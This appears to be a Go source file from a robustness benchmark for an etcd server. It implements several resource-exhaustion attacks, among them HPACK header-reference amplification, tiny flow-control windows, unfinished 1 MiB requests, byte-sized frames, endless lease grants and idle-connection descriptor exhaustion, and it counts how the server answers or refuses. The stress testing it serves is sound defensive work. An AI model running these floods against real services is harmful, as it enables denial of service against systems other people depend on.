package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"slices"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	pb "go.etcd.io/etcd/api/v3/etcdserverpb"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
)

// memoryAttacks are attacks on memory and on descriptors.
func memoryAttacks() []attack {
	return []attack{
		{name: "transactions of 128 full ranges", prepare: fillKeys, flood: readEverything},
		{name: "header references", flood: referHeaders},
		{name: "watch streams with tiny windows", prepare: fillKeys, flood: watchTiny},
		{name: "answers behind closed windows", prepare: fillKeys, flood: stallAnswers},
		{name: "unfinished requests", flood: leaveUnfinished},
		{name: "requests in tiny frames", flood: sendCrumbs},
		{name: "leases without end", memory: 192 << 20, flood: grantWithoutEnd},
		{name: "idle connections, 512 descriptors", files: 512, flood: openIdle},
		{name: "idle connections", flood: openIdle},
		{name: "idle connections on the port for members, 512 descriptors", files: 512, members: true, flood: openIdle},
	}
}

const (
	// filledKeys of filledBytes each are what can be read in attacks: 32 MB.
	filledKeys  = 320
	filledBytes = 100 << 10
)

func filledKey(i int) []byte { return fmt.Appendf(nil, "filled/%06d", i) }

// allFilled is a range of every such key.
func allFilled() *pb.RangeRequest {
	return &pb.RangeRequest{Key: []byte("filled/"), RangeEnd: []byte("filled0"), Serializable: true}
}

func fillKeys(ctx context.Context, addr string) error {
	conns, err := dial(addr, 1)
	if err != nil {
		return err
	}
	defer conns.close()
	return each(ctx, conns, 4, filledKeys, func(ctx context.Context, conn *grpc.ClientConn, i int) error {
		_, err := pb.NewKVClient(conn).Put(ctx, &pb.PutRequest{Key: filledKey(i), Value: make([]byte, filledBytes)})
		return err
	})
}

// outcomes counts how requests ended.
type outcomes struct{ done, refused, other atomic.Int64 }

func (o *outcomes) count(err error) {
	switch status.Code(err) {
	case codes.OK:
		o.done.Add(1)
	case codes.ResourceExhausted:
		o.refused.Add(1)
	default:
		o.other.Add(1)
	}
}

func (o *outcomes) figures() []figure {
	return []figure{
		{name: "requests answered", value: float64(o.done.Load())},
		{name: "requests refused", value: float64(o.refused.Load())},
		{name: "requests that failed otherwise", value: float64(o.other.Load())},
	}
}

// repeat runs do again and again in each of several goroutines, until ctx ends.
func repeat(ctx context.Context, workers int, do func(ctx context.Context, worker int)) {
	var work sync.WaitGroup
	for i := range workers {
		work.Go(func() {
			for ctx.Err() == nil {
				do(ctx, i)
			}
		})
	}
	work.Wait()
}

// readEverything reads 128 times all keys in one transaction.
func readEverything(ctx context.Context, addr string) ([]figure, error) {
	conns, err := dialFrom(attackerAddress, addr, 4)
	if err != nil {
		return nil, err
	}
	defer conns.close()
	txn := new(pb.TxnRequest)
	for range 128 {
		txn.Success = append(txn.Success, &pb.RequestOp{Request: &pb.RequestOp_RequestRange{RequestRange: allFilled()}})
	}
	var o outcomes
	repeat(ctx, len(conns), func(ctx context.Context, worker int) {
		_, err := pb.NewKVClient(conns[worker]).Txn(ctx, txn)
		if ctx.Err() == nil {
			o.count(err)
		}
		if err != nil {
			pause(ctx, time.Millisecond)
		}
	})
	return o.figures(), nil
}

// onRaw opens several connections again and again, each from a goroutine of its own, and has fill use each one. A
// connection that fill leaves without an error stays open until the server closes it.
func onRaw(ctx context.Context, addr string, conns int, window uint32, fill func(ctx context.Context, r *raw) error) []figure {
	var opened, closed, answered, reset, received atomic.Int64
	repeat(ctx, conns, func(ctx context.Context, _ int) {
		r, err := dialRaw(ctx, addr, window)
		if err != nil {
			pause(ctx, 10*time.Millisecond)
			return
		}
		opened.Add(1)
		if err := fill(ctx, r); err == nil {
			select {
			case <-ctx.Done():
			case <-r.over:
			}
		}
		if ctx.Err() == nil && r.gone() {
			closed.Add(1)
		}
		r.close()
		answered.Add(r.answered.Load())
		reset.Add(r.reset.Load())
		received.Add(r.received.Load())
	})
	return []figure{
		{name: "connections opened", value: float64(opened.Load())},
		{name: "connections that the server closed", value: float64(closed.Load())},
		{name: "requests answered", value: float64(answered.Load())},
		{name: "requests reset", value: float64(reset.Load())},
		{name: "received", unit: "MB", value: megabytes(received.Load())},
	}
}

// referHeaders sends headers that name an entry of the table of headers again and again: a byte becomes thousands.
func referHeaders(ctx context.Context, addr string) ([]figure, error) {
	const (
		streams = 300
		bytes   = 100 << 10 // of references in each request
		entry   = 3500      // so that it fits in the table with the others
	)
	return onRaw(ctx, addr, 4, 0, func(ctx context.Context, r *raw) error {
		big := hpack.HeaderField{Name: "x-abuse", Value: string(slices.Repeat([]byte("a"), entry))}
		for i := range streams {
			var more []hpack.HeaderField
			if i == 0 {
				more = append(more, big)
			}
			r.block.Reset()
			for _, f := range append([]hpack.HeaderField{
				{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: pb.KV_Put_FullMethodName},
				{Name: ":authority", Value: "bench"}, {Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
			}, more...) {
				if err := r.encoder.WriteField(f); err != nil {
					return err
				}
			}
			if i > 0 {
				const newest = 0x80 | 62 // the first entry behind those that every connection has
				r.block.Write(slices.Repeat([]byte{newest}, bytes))
			}
			stream := r.next
			r.next += 2
			if err := r.headers(stream, r.block.Bytes()); err != nil {
				return err
			}
			if err := r.flush(); err != nil {
				return err
			}
		}
		return nil
	}), nil
}

// watchTiny opens 2 000 watch streams that may receive one byte, and puts large values again and again.
func watchTiny(ctx context.Context, addr string) ([]figure, error) {
	const streams = 2000
	conns, err := dialFrom(attackerAddress, addr, 1)
	if err != nil {
		return nil, err
	}
	defer conns.close()
	var o outcomes
	var putting sync.WaitGroup
	putting.Go(func() {
		pause(ctx, 2*time.Second) // until the streams are there
		putAgain(ctx, conns[0], &o)
	})
	figures := onRaw(ctx, addr, 4, 1, func(ctx context.Context, r *raw) error {
		for range streams / 4 {
			stream, err := r.open(pb.Watch_Watch_FullMethodName)
			if err != nil {
				return err
			}
			create := &pb.WatchRequest{RequestUnion: &pb.WatchRequest_CreateRequest{CreateRequest: &pb.WatchCreateRequest{
				Key: []byte("filled/"), RangeEnd: []byte("filled0"),
			}}}
			if err := errors.Join(r.message(stream, create, false), r.flush()); err != nil {
				return err
			}
			pause(ctx, time.Millisecond)
		}
		return nil
	})
	putting.Wait()
	return append(figures, o.figures()...), nil
}

// putAgain puts a large value of a filled key twice a second, until ctx ends.
func putAgain(ctx context.Context, conn *grpc.ClientConn, o *outcomes) {
	for ctx.Err() == nil {
		_, err := pb.NewKVClient(conn).Put(ctx, &pb.PutRequest{Key: filledKey(0), Value: make([]byte, 1<<20)})
		if ctx.Err() == nil {
			o.count(err)
		}
		pause(ctx, 500*time.Millisecond)
	}
}

// stallAnswers asks for all keys again and again, and takes one byte of each answer.
func stallAnswers(ctx context.Context, addr string) ([]figure, error) {
	return onRaw(ctx, addr, 8, 1, func(ctx context.Context, r *raw) error {
		for range 200 {
			if _, err := r.ask(pb.KV_Range_FullMethodName, allFilled()); err != nil {
				return err
			}
			if err := r.flush(); err != nil {
				return err
			}
			pause(ctx, 5*time.Millisecond)
		}
		return nil
	}), nil
}

// unfinishedPart is how much of a message of 1 MiB is sent.
const unfinishedPart = 1<<20 - 1<<10

// leaveUnfinished sends nearly all of many large requests, and never the rest.
func leaveUnfinished(ctx context.Context, addr string) ([]figure, error) {
	message := make([]byte, unfinishedPart)
	message[2] = 0x10 // of a length of 1 MiB
	return onRaw(ctx, addr, 8, 65535, func(ctx context.Context, r *raw) error {
		for ctx.Err() == nil {
			stream, err := r.open(pb.KV_Put_FullMethodName)
			if err != nil {
				return err
			}
			// It keeps to no window of a stream: a server that minds resets it.
			for rest := message; len(rest) > 0; rest = rest[min(len(rest), 48<<10):] {
				if err := errors.Join(r.data(stream, rest[:min(len(rest), 48<<10)], false), r.flush()); err != nil {
					return err
				}
				pause(ctx, 200*time.Microsecond) // for the server to widen the window
			}
		}
		return nil
	}), nil
}

// sendCrumbs sends requests a byte at a time, each in a frame of its own.
func sendCrumbs(ctx context.Context, addr string) ([]figure, error) {
	const streams = 64
	return onRaw(ctx, addr, 4, 65535, func(ctx context.Context, r *raw) error {
		var ids []uint32
		prefix := []byte{0, 0, 0x10, 0, 0} // of a message of 1 MiB
		for range streams {
			stream, err := r.open(pb.KV_Put_FullMethodName)
			if err != nil {
				return err
			}
			if err := r.data(stream, prefix, false); err != nil {
				return err
			}
			ids = append(ids, stream)
		}
		for ctx.Err() == nil {
			for _, stream := range ids {
				for range 64 {
					if err := r.framer.WriteData(stream, false, []byte{1}); err != nil {
						return err
					}
				}
			}
			if err := r.flush(); err != nil {
				return err
			}
		}
		return nil
	}), nil
}

// grantWithoutEnd grants leases until the attack ends.
func grantWithoutEnd(ctx context.Context, addr string) ([]figure, error) {
	conns, err := dialFrom(attackerAddress, addr, 4)
	if err != nil {
		return nil, err
	}
	defer conns.close()
	var o outcomes
	repeat(ctx, 256, func(ctx context.Context, worker int) {
		_, err := pb.NewLeaseClient(conns[worker%len(conns)]).LeaseGrant(ctx, &pb.LeaseGrantRequest{TTL: longTTL})
		if ctx.Err() == nil {
			o.count(err)
		}
		if err != nil {
			pause(ctx, time.Millisecond)
		}
	})
	return o.figures(), nil
}

// openIdle opens connections and does nothing with them.
func openIdle(ctx context.Context, addr string) ([]figure, error) {
	dialer := net.Dialer{LocalAddr: attackerAddress}
	var held []net.Conn
	defer func() {
		for _, conn := range held {
			conn.Close()
		}
	}()
	refused := 0
	for ctx.Err() == nil {
		conn, err := dialer.DialContext(ctx, "tcp", addr)
		switch {
		case err == nil:
			held = append(held, conn)
		case errors.Is(err, syscall.EMFILE):
			pause(ctx, time.Second) // the process may open no more
		case ctx.Err() == nil:
			refused++
			pause(ctx, 10*time.Millisecond)
		}
	}
	closed := 0
	for _, conn := range held {
		conn.SetReadDeadline(time.Now().Add(time.Millisecond))
		var one [1]byte
		if _, err := conn.Read(one[:]); err != nil && !errors.Is(err, context.DeadlineExceeded) {
			var timeout net.Error
			if !errors.As(err, &timeout) || !timeout.Timeout() {
				closed++
			}
		}
	}
	return []figure{
		{name: "connections opened", value: float64(len(held))},
		{name: "connections that the server closed", value: float64(closed)},
		{name: "connections refused", value: float64(refused)},
	}, nil
}
